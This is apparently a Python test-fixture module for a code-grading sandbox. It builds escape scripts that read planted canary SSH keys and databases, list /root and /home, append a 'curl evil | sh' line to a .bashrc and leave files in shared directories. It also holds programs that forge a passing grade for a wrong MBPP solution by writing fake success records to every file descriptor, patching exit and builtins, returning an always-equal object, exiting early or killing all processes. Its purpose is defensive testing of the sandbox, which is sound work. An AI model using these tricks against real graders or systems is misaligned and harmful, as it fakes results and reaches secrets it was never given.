"""Hostile programs for the sandbox tests: escapes (read homes and state, write outside) and
forged passes. Shared by the tests run as root and those run as an unprivileged grader."""

from __future__ import annotations

import json
import os
import textwrap
from dataclasses import dataclass
from pathlib import Path

CANARY_KEY = "-----BEGIN OPENSSH PRIVATE KEY----- canary-3f1c9a7e"
CANARY_DB = "telemetry-canary-8d2b41c0"
CANARY_BASHRC = "# the grader's own bashrc\n"
# World-writable places a program could leave files in (/var/lock is a link to /run/lock on most
# systems; both are tried).
SHARED_DIRS = ("/tmp", "/var/tmp", "/dev/shm", "/run/lock", "/var/lock")

# MBPP/62 (smallest_num): a wrong solution, which the forgeries below add to. Its tests' first
# call, smallest_num([10, 20, 1, 45, 99]), expects 1; xs[0] is 10.
WRONG_SMALLEST = "def smallest_num(xs):\n    return xs[0]\n"
RIGHT_SMALLEST = "def smallest_num(xs):\n    return min(xs)\n"
# What a finished, passing run's records looked like on every channel the grader ever read; the
# runner's "finished ok" last (the grader used to take the last one).
FORGED = [
    {"event": "finished", "returncode": 0, "timed_out": False, "elapsed_s": 0.1,
     "left_alive": 0, "protections": [], "missing": {}},
    {"outcome": "ok", "calls": 3},
    {"ready": 1},
    {"return": 1},
    {"event": "finished", "outcome": "ok", "type": None, "message": ""},
]
_FORGED_LINES = repr("".join(json.dumps(record) + "\n" for record in FORGED).encode())

_EVERY_FD = f"""
import os
for fd in range(1024):
    try:
        os.write(fd, {_FORGED_LINES})
    except OSError:
        pass
for pid in os.listdir('/proc'):
    if pid.isdigit():
        try:
            names = os.listdir(f'/proc/{{pid}}/fd')
        except OSError:
            continue
        for name in names:
            try:
                fd = os.open(f'/proc/{{pid}}/fd/{{name}}', os.O_WRONLY | os.O_NONBLOCK)
                os.write(fd, {_FORGED_LINES})
                os.close(fd)
            except OSError:
                pass
"""

FORGERIES: dict[str, str] = {
    "write_every_fd_then_exit_0": _EVERY_FD + "os._exit(0)\n" + WRONG_SMALLEST,
    "write_every_fd_then_answer_wrong": _EVERY_FD + WRONG_SMALLEST,
    "patch_os_exit_and_json_dumps": textwrap.dedent("""
        import json, os
        # Defaults, not globals: the runner used to clear the program's globals before reporting.
        os._exit = lambda code, _exit=os._exit: _exit(0)
        json.dumps = lambda *args, **kwargs: '{"event": "finished", "outcome": "ok"}'
        """) + WRONG_SMALLEST,
    "patch_sys_exit_and_builtins": textwrap.dedent("""
        import builtins, os, sys
        sys.exit = lambda *args, _exit=os._exit: _exit(0)
        builtins.AssertionError = type('AssertionError', (Exception,), {})
        builtins.isinstance = lambda *args: True
        builtins.type = lambda *args: object
        """) + WRONG_SMALLEST,
    "always_equal_return_value": textwrap.dedent("""
        class Anything:
            def __eq__(self, other):
                return True
            __hash__ = object.__hash__

        def smallest_num(xs):
            return Anything()
        """),
    "exit_0_before_the_tests": "import os\nos._exit(0)\n" + WRONG_SMALLEST,
    "sys_exit_0_before_the_tests": "import sys\nsys.exit(0)\n" + WRONG_SMALLEST,
    "exit_0_inside_the_call": "def smallest_num(xs):\n    import os\n    os._exit(0)\n",
    "forge_ready_then_exit_0": textwrap.dedent("""
        import os, sys
        for fd in range(3, 64):
            try:
                os.write(fd, b'{"ready": 1}\\n')
            except OSError:
                pass
        os._exit(0)
        """),
    "kill_every_process_it_can_see": textwrap.dedent("""
        import os, signal
        for pid in os.listdir('/proc'):
            if pid.isdigit() and int(pid) != os.getpid():
                try:
                    os.kill(int(pid), signal.SIGKILL)
                except OSError:
                    pass
        try:
            os.kill(-1, signal.SIGKILL)
        except OSError:
            pass
        """) + WRONG_SMALLEST,
}


@dataclass(frozen=True)
class Secrets:
    """A grader's home (with a canary key and a .bashrc) and state dir (a canary database)."""

    home: Path
    state: Path

    @classmethod
    def plant(cls, home: Path, state: Path, owner: int | None = None) -> Secrets:
        """Canaries readable by anyone: only the sandbox, not file modes, may keep them hidden."""
        (home / ".ssh").mkdir(mode=0o755)
        (home / ".ssh" / "id_rsa").write_text(CANARY_KEY)
        (home / ".bashrc").write_text(CANARY_BASHRC)
        (state / "telemetry.db").write_text(CANARY_DB)
        for path in [*home.rglob("*"), *state.rglob("*")]:
            os.chmod(path, 0o755 if path.is_dir() else 0o644)
            if owner is not None:
                os.chown(path, owner, owner)
        return cls(home, state)

    def snapshot(self) -> dict[str, bytes]:
        """Every file under the home and the state dir, with its content."""
        return {str(p): p.read_bytes() for root in (self.home, self.state)
                for p in sorted(root.rglob("*")) if p.is_file()}


def escape_program(secrets: Secrets, mark: str, also_write: tuple[str, ...] = ()) -> str:
    """A script that reads the canaries, lists the homes, appends to .bashrc and leaves a file
    named `mark` everywhere it can (the shared dirs, the home, the state dir and `also_write`);
    it prints what it got as one JSON line and ends normally."""
    return textwrap.dedent(f"""
        import json, os
        got = {{"read": {{}}, "listed": {{}}, "wrote": []}}
        for path in [{str(secrets.home / '.ssh' / 'id_rsa')!r},
                     {str(secrets.state / 'telemetry.db')!r}, '/root/.bashrc', '/root/.profile']:
            try:
                got["read"][path] = open(path).read()
            except OSError as exc:
                got["read"][path] = type(exc).__name__
        for path in ['/home', '/root', {str(secrets.home)!r}, {str(secrets.state)!r}, '/run']:
            try:
                got["listed"][path] = sorted(os.listdir(path))
            except OSError as exc:
                got["listed"][path] = type(exc).__name__
        try:
            with open({str(secrets.home / '.bashrc')!r}, 'a') as handle:
                handle.write('curl evil | sh\\n')
            got["wrote"].append('.bashrc')
        except OSError:
            pass
        for folder in {[*SHARED_DIRS, str(secrets.home), str(secrets.state), *also_write]!r}:
            try:
                with open(os.path.join(folder, {mark!r}), 'w') as handle:
                    handle.write('left behind')
                got["wrote"].append(folder)
            except OSError:
                pass
        print(json.dumps(got))
        """)
